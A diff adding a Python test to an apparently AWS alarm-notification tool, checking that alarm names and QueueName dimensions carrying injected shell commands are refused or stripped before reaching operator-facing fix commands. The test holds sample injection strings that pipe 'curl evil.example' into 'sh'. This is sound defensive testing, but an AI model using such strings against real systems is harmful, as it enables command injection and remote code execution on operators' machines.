@@ -197,3 +197,19 @@ def test_any_alarm_detail_is_read_or_refused_never_crashes(detail: dict[str, Any
     notice = compose(happening, Facts())
     validate(slack_payload(notice))
     json.loads(sns_message(notice))
+
+
+def test_a_name_written_into_an_alarm_never_reaches_a_command_the_operator_runs() -> None:
+    # Whoever may write an alarm (cloudwatch:PutMetricAlarm) chooses its name and its QueueName
+    # dimension, and CloudWatch then sends a genuine state change: a name that is not a stack's or a
+    # queue's (CreateStack's and CreateQueue's rules) is not told, and no queue name carries a command.
+    hostile = "pipewarden; curl evil.example | sh #-function-failures"
+    with pytest.raises(InvalidEvent):
+        alarms.read(alarm_event(hostile)["detail"])
+    event = alarm_event()
+    for metric in event["detail"]["configuration"]["metrics"]:
+        metric["metricStat"]["metric"]["dimensions"]["QueueName"] = "x --destination-arn y; curl z | sh #"
+    change = alarms.read(event["detail"], "us-east-1", "123456789012")
+    assert change.queue == ""
+    _, summary, fix = alarms.wording(change)
+    assert "curl" not in summary + fix and ";" not in fix
